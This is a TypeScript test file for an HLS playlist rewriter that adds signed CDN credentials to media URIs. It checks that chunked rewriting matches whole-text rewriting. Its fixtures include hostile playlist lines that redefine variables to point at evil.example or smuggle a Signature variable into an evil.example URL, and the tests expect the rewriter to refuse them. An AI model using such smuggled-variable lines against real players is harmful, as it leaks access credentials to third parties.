import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { rewritePlaylistDetailed, rewritePlaylistInChunks } from '../../src/rewriter/index.js';
import type { RewriteOptions } from '../../src/rewriter/index.js';
import { CREDS, VIEWER_URL, loadFixtures } from '../hostile/oracle.js';
import { mediaPlaylist } from '../edge/playlists.js';

// Chunked rewriting carries every piece of state across chunk boundaries: any playlist, cut anywhere between
// lines, rewrites to exactly what the whole-text rewrite gives, with the same counts and verdicts.

const OPTIONS: RewriteOptions = { url: VIEWER_URL, allowHosts: ['priv.example.com'] };

function chunked(text: string, options: RewriteOptions, chunkChars: number) {
  const rewrite = rewritePlaylistInChunks(text, options, chunkChars);
  const pieces = [...rewrite.chunks()];
  return { pieces, summary: rewrite.summary()! };
}

function expectSameAsWhole(text: string, options: RewriteOptions, chunkChars: number): void {
  const whole = rewritePlaylistDetailed(text, options);
  const { pieces, summary } = chunked(text, options, chunkChars);
  const { text: wholeText, ...wholeSummary } = whole;
  expect(summary).toEqual(wholeSummary);
  if (summary.refused === undefined) expect(pieces.join('')).toBe(wholeText);
}

const VARIABLE_PLAYLIST = [
  '#EXTM3U',
  '#EXT-X-DEFINE:NAME="base",VALUE="https://example.com/movies/42"',
  '#EXT-X-TARGETDURATION:4',
  ...Array.from({ length: 200 }, (_, i) => `#EXTINF:4,\n{$base}/seg${i}.ts`),
  '#EXT-X-DEFINE:NAME="base",VALUE="//evil.example"',
  '#EXTINF:4,\n{$base}/late.ts',
  '',
].join('\n');

describe('rewriting in chunks', () => {
  it('gives exactly the whole-text result for every m3u8-parser fixture at several chunk sizes', () => {
    for (const { text } of loadFixtures()) {
      for (const size of [1, 64, 1024]) expectSameAsWhole(text, OPTIONS, size);
    }
  });

  it('carries EXT-X-DEFINE variables across chunks, including a redefinition far from the first definition', () => {
    const { pieces, summary } = chunked(VARIABLE_PLAYLIST, OPTIONS, 256);
    expect(pieces.length).toBeGreaterThan(10);
    expect(summary.rewritten).toBe(200);
    expect(summary.withheld).toEqual({ 'ambiguous-variable': 1 });
    expectSameAsWhole(VARIABLE_PLAYLIST, OPTIONS, 256);
  });

  it('refuses a credential QUERYPARAM used outside credentialed URIs even when the use is many chunks after the definition', () => {
    const text = `#EXTM3U\n#EXT-X-DEFINE:QUERYPARAM="Signature"\n${'#EXTINF:4,\na.ts\n'.repeat(500)}#EXT-X-MAP:URI="https://evil.example/x?s={$Signature}"\n`;
    const { summary } = chunked(text, OPTIONS, 100);
    expect(summary.refused).toBe('credential-variable');
    expect(rewritePlaylistDetailed(text, OPTIONS)).toMatchObject({ text: '', refused: 'credential-variable' });
  });

  it('stops yielding at the line that passes a limit', () => {
    const text = `#EXTM3U\n${'a.ts\n'.repeat(1000)}${'b'.repeat(5000)}\n${'c.ts\n'.repeat(1000)}`;
    const { pieces, summary } = chunked(text, { ...OPTIONS, limits: { maxLineChars: 4096 } }, 512);
    expect(summary.refused).toBe('line-too-long');
    expect(pieces.join('')).not.toContain('c.ts');
  });

  it('drops a leading BOM once and passes a skipped playlist through as one piece', () => {
    expect(chunked('\ufeff#EXTM3U\na.ts\n', OPTIONS, 1).pieces.join('')).toBe(`#EXTM3U\na.ts?${CREDS}\n`);
    const skipped = chunked('#EXTM3U\na.ts\n', { url: 'https://example.com/m.m3u8' }, 1);
    expect(skipped).toEqual({ pieces: ['#EXTM3U\na.ts\n'], summary: { rewritten: 0, untouched: 0, withheld: {}, skipped: 'no-credentials' } });
  });

  it('gives the whole-text result for generated playlists cut at random chunk sizes', () => {
    const line = fc.constantFrom(
      'a.ts', '#EXTINF:4,', '#EXT-X-DEFINE:NAME="v",VALUE="p"', '#EXT-X-DEFINE:NAME="v",VALUE="//evil.example"', '{$v}/x.ts',
      '#EXT-X-DEFINE:QUERYPARAM="Signature"', 'b.ts?s={$Signature}', 'https://evil.example/{$Signature}', '#EXT-X-MAP:URI="i.mp4"',
      '\u00a0c.ts', '', '# comment {$Signature}',
    );
    fc.assert(
      fc.property(fc.array(line, { maxLength: 40 }), fc.integer({ min: 1, max: 200 }), (lines, size) => {
        expectSameAsWhole(['#EXTM3U', ...lines, ''].join('\n'), OPTIONS, size);
      }),
      { numRuns: 300 },
    );
  });

  it('reports no summary before the chunks have been read to the end', () => {
    const rewrite = rewritePlaylistInChunks(`#EXTM3U\n${'a.ts\n'.repeat(100)}`, OPTIONS, 64);
    expect(rewrite.summary()).toBeUndefined();
    const pieces = rewrite.chunks();
    pieces.next();
    expect(rewrite.summary()).toBeUndefined();
    for (const piece of pieces) void piece;
    expect(rewrite.summary()).toMatchObject({ rewritten: 100 });
  });
});

const BODY_CREDS = 'Policy=eyJTdGF0ZW1lbnQiOltdfQ__&Signature=abc~def-ghi_&Key-Pair-Id=K2JCJMDEHXQW5F';
const BODY_OPTIONS: RewriteOptions = { url: `https://d111111abcdef8.cloudfront.net/movies/42/720p/index.m3u8?${BODY_CREDS}` };

/** Lines a rewriter must treat one by one: URIs (relative, absolute, other hosts), tags with URIs, blanks, CRLF. */
const LINE = fc.constantFrom(
  '#EXTINF:6.000,', 'seg.ts', 'a/b.ts?x=1', 'https://d111111abcdef8.cloudfront.net/movies/42/x.ts',
  'https://cdn.thirdparty.example/y.ts', '#EXT-X-MAP:URI="init.mp4"', '#EXT-X-KEY:METHOD=AES-128,URI="k.bin"',
  '#EXT-X-PART:DURATION=1,URI="p.m4s"', '', '  seg2.ts  ', '# comment', 'seg3.ts#frag', '#EXT-X-PREFETCH:pre.ts',
  'skd://key', 'seg.ts?Policy=old&Signature=old', '\u00e9t\u00e9.ts', '\ud83c\udfa5.ts',
);

describe('rewriting in chunks, line endings and BOM', () => {
  it('gives exactly the whole-text result for any chunk size, LF or CRLF, with or without a BOM', () => {
    fc.assert(
      fc.property(fc.array(fc.tuple(LINE, fc.constantFrom('\n', '\r\n')), { maxLength: 60 }), fc.integer({ min: 1, max: 200 }), fc.boolean(), (lines, chunk, bom) => {
        const text = `${bom ? '\uFEFF' : ''}#EXTM3U\n${lines.map(([l, eol]) => l + eol).join('')}`;
        expectSameAsWhole(text, BODY_OPTIONS, chunk);
      }),
      { numRuns: 300 },
    );
  });

  it('splits only at line feeds', () => {
    const pieces = chunked(mediaPlaylist(50), BODY_OPTIONS, 64).pieces;
    expect(pieces.length).toBeGreaterThan(10);
    for (const p of pieces.slice(0, -1)) expect(p.endsWith('\n')).toBe(true);
  });
});
